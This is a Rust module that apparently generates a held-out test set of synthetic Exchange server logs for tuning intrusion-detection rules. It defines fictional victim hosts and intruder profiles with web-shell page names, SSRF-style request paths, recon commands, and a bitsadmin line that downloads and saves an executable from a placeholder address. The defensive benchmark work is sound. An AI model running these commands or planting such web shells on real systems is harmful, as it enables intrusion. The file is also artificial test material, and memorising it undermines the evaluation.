//! The unseen set: closed like [`last`](super::last) and [`sealed`](super::sealed), and whoever tunes reads neither this
//! file nor what lies below it.
//!
//! Written when rules had been tuned against five sets, by somebody who had seen no rule. Its servers are a German, a
//! Japanese and an old one, with other fields and folders of their logs; its intruders wait, come by night, use what
//! another has left, or come by way of another server of the house. [`pages`] are what they plant, [`night`] and [`vault`]
//! what they run and leave, [`plays`], [`stay`] and [`later`] how their attacks go, [`calm`] what happens where nobody gets
//! in, [`estate`] and [`bureau`] what goes on anyway.

mod bureau;
mod calm;
mod estate;
mod later;
mod night;
mod pages;
mod plays;
mod stay;
mod vault;

use super::{Habits, Script};
use crate::attack::{Intruder, Page};
use crate::host::{Columns, Heading, Host, Tongue, WebColumns};
use crate::moment::Moment;
use crate::shape::Shape;
use pages::{ADMIN, CURRENT, SIGN_IN, SYSTEM_WEB_2};

/// The unseen set.
pub(super) const HABITS: Habits = Habits {
    set: "unseen",
    scripts: &SCRIPTS,
    hosts: [&ELBWERFT, &MINATO, &FENWICK],
    shapes: &[
        Shape::Flat,
        Shape::Archive,
        Shape::Tree,
        Shape::Shares,
        Shape::Folders,
        Shape::Triage,
        Shape::Packed,
        Shape::Tree,
        Shape::Archive,
        Shape::Shares,
        Shape::Triage,
    ],
    first_day: Moment::day(2021, 3, 1),
    intruders: [&MARTEN, &FERRET, &BADGER],
    aftermath: &night::AFTERMATH,
    odd_code: &pages::ODD_CODE,
    odd_places: &pages::ODD_PLACES,
    written: (Page { place: pages::SCRIPTS, name: "preloadowa.aspx" }, pages::WRITTEN),
    voice_command: "cmd.exe /c start /min bits¦admin /transfer umlang /download /priority foreground http://192.0.2.117/um/en-GB.cab C:\\Windows\\Temp\\en-GB.exe",
    probers: [&VOLE, &SHREW],
    scanner: ("203.0.113.183", "Mozilla/5.0 (compatible; BinaryEdge/1.0; +https://www.binaryedge.io)"),
    deletion: &[later::DELETE[0].command, later::DELETE[1].command],
};

/// From before the first known attack to the update.
const fn long(scenario: &'static str) -> Script {
    Script { scenario, days: Some((63, 3)), play: Some(calm::weeks), after: None }
}

const SCRIPTS: [Script; 16] = [
    long("clean"),
    long("week-missing"),
    Script { days: Some((4, 9)), ..Script::played("noisy", calm::noisy) },
    Script { days: Some((2, 6)), ..Script::played("scanned", calm::scanned) },
    Script { days: Some((4, 9)), ..Script::played("patched-in-time", calm::patched_in_time) },
    Script { days: Some((2, 8)), ..Script::played("mail-read", plays::mail_read) },
    Script { days: Some((2, 7)), ..Script::played("session-only", plays::session_only) },
    Script { days: Some((2, 10)), ..Script::played("url-page", plays::url_page) },
    Script { days: Some((3, 6)), ..Script::played("address-book-page", plays::address_book_page) },
    Script { days: Some((3, 5)), ..Script::played("voice", plays::voice) },
    Script { days: Some((3, 11)), after: Some(later::fall_silent), ..Script::played("aftermath", later::aftermath) },
    Script { days: Some((2, 7)), ..Script::played("ransom", later::ransom) },
    Script { days: Some((3, 8)), ..Script::played("three-intruders", plays::three_intruders) },
    Script::played("odd-code", plays::odd_code),
    Script::played("odd-places", plays::odd_places),
    Script { after: Some(later::lose_logs), ..Script::played("lost-logs", later::lost_logs) },
];

const ELBWERFT: Host = Host {
    name: "ELB-EX16",
    domain: "elbwerft.example.net",
    netbios: "ELBWERFT",
    mail_names: &["post.elbwerft.example.net", "autodiscover.elbwerft.example.net"],
    address: "10.20.5.12",
    link_local: "fe80::6d1f:94ab:27e0:c45d",
    product: "Exchange Server 2016 CU15",
    build: [15, 1, 1913, 7],
    fixed: 12,
    columns: Columns::Middle,
    heading: Heading::CommentsOnly,
    install: "C:\\Program Files\\Microsoft\\Exchange Server\\V15",
    web_logs: "L:\\IIS\\LogFiles",
    sites: (1, 2),
    web_columns: WebColumns::Custom,
    web_root: "C:\\inetpub\\wwwroot",
    users: &["a.brandes", "buchhaltung", "einkauf", "empfang", "f.harms", "j.petersen", "k.oeztuerk", "vertrieb-nord"],
    admin: "adm_petersen",
    domain_sid: "S-1-5-21-2774419032-1190367745-2058813960",
    tongue: Tongue::German,
};

const MINATO: Host = Host {
    name: "MNT-EXC2",
    domain: "minato.example.org",
    netbios: "MINATO",
    mail_names: &["mail2.minato.example.org", "mnt-exc2.minato.example.org", "autodiscover.minato.example.org"],
    address: "10.20.8.22",
    link_local: "fe80::f03c:12d8:8e5b:4a90",
    product: "Exchange Server 2019 CU5",
    build: [15, 2, 595, 3],
    fixed: 8,
    columns: Columns::Full,
    heading: Heading::CommentsThenPlain,
    install: "D:\\Program Files\\Microsoft\\Exchange Server\\V15",
    web_logs: "E:\\iislog",
    web_columns: WebColumns::Lean,
    users: &["eguchi.s", "hosoda", "jimukyoku", "kawai-t", "koho", "nagao.m", "shimizu.y", "uketsuke"],
    admin: "minato-sysadm",
    domain_sid: "S-1-5-21-4036271185-655129870-3127749016",
    tongue: Tongue::Japanese,
    ..ELBWERFT
};

const FENWICK: Host = Host {
    name: "FENMAIL",
    domain: "fenwick.example.com",
    netbios: "FENWICK",
    mail_names: &["owa.fenwick.example.com"],
    address: "10.20.9.4",
    link_local: "fe80::3ce7:50a2:b1d4:9f06",
    product: "Exchange Server 2013 CU21",
    build: [15, 0, 1395, 8],
    fixed: 12,
    columns: Columns::Old,
    heading: Heading::PlainThenComments,
    web_logs: "C:\\inetpub\\logs\\LogFiles",
    web_columns: WebColumns::Whole,
    users: &["accounts", "b.mckenna", "dtrent", "h.oyelaran", "library", "ruth.fay", "workshop"],
    admin: "itsupport",
    domain_sid: "S-1-5-21-1659004503-2139871995-725345543",
    tongue: Tongue::English,
    ..ELBWERFT
};

/// Waits a week after the page, and comes by night.
const MARTEN: Intruder = Intruder {
    addresses: &["192.0.2.83", "203.0.113.158"],
    locate_agent: "axios/0.21.1",
    chain_agent: "axios/0.21.1",
    page_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
    stem: "/owa/auth/Current/themes/resources/sign_in_arrow.png",
    target: "localadmin]@HOST:444",
    ending: "?#",
    hint: "X-AnonResource-Backend-Cookie",
    pace: 61_000,
    url_head: "http://oabsync/#",
    item: "tzid",
    pages: &[
        Page { place: CURRENT, name: "timezonepick.aspx" },
        Page { place: SYSTEM_WEB_2, name: "SmartNavIE5.aspx" },
    ],
    commands: &[
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd \"DIR\" && sc query type= service state= all | find \"DISPLAY\" && popd\"",
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd \"DIR\" && net share && popd\"",
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd \"DIR\" && ver && popd\"",
    ],
};

/// [`MARTEN`] from where its pages are used.
const MARTEN_ELSEWHERE: Intruder = Intruder { addresses: &["203.0.113.158"], ..MARTEN };

/// Plants on hundreds of servers, looks once whether the page answers, and sells the list.
const FERRET: Intruder = Intruder {
    addresses: &["2001:db8:3d:7::b0b", "192.0.2.117"],
    locate_agent: "libwww-perl/6.53",
    chain_agent: "libwww-perl/6.53",
    page_agent: "libwww-perl/6.53",
    stem: "/ecp/nbqa.css",
    target: "[]@HOST:444",
    ending: "#",
    hint: "X-BEResource-Cookie",
    pace: 1_150,
    url_head: "http://e.example/?",
    item: "Fz81Lq",
    pages: &[Page { place: ADMIN, name: "TimeoutLogin.aspx" }],
    commands: &["cmd.exe /c echo 4c1f-up"],
};

/// Uses the page of [`FERRET`] from an address of its own, later asks for money.
const BADGER: Intruder = Intruder {
    addresses: &["203.0.113.66", "192.0.2.196"],
    locate_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:78.0) Gecko/20100101 Firefox/78.0",
    chain_agent: "python-requests/2.18.4",
    page_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:78.0) Gecko/20100101 Firefox/78.0",
    stem: "/ecp/default.flt.js",
    target: "name@HOST:444",
    ending: "&#",
    hint: "X-BEResource-Cookie",
    pace: 8_700,
    url_head: "https://w.example/#",
    item: "srv_ctl",
    pages: &[Page { place: SIGN_IN, name: "OutlookDN.aspx" }],
    commands: &[
        "powershell.exe -nop -c \"gwmi win32_operatingsystem | select caption,lastbootuptime\"",
        "powershell.exe -nop -c \"gci D:\\ -Directory | select Name\"",
        "powershell.exe -nop -c \"(Get-MpComputerStatus).RealTimeProtectionEnabled\"",
    ],
};

const VOLE: Intruder = Intruder {
    addresses: &["203.0.113.27"],
    locate_agent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    chain_agent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    stem: "/owa/auth/xq.js",
    target: "HOST:444",
    pace: 260,
    ..MARTEN
};

const SHREW: Intruder = Intruder {
    addresses: &["192.0.2.147", "192.0.2.148"],
    locate_agent: "Ruby",
    chain_agent: "Ruby",
    stem: "/ecp/robots.txt",
    target: "x@HOST:444",
    pace: 33_000,
    ..BADGER
};
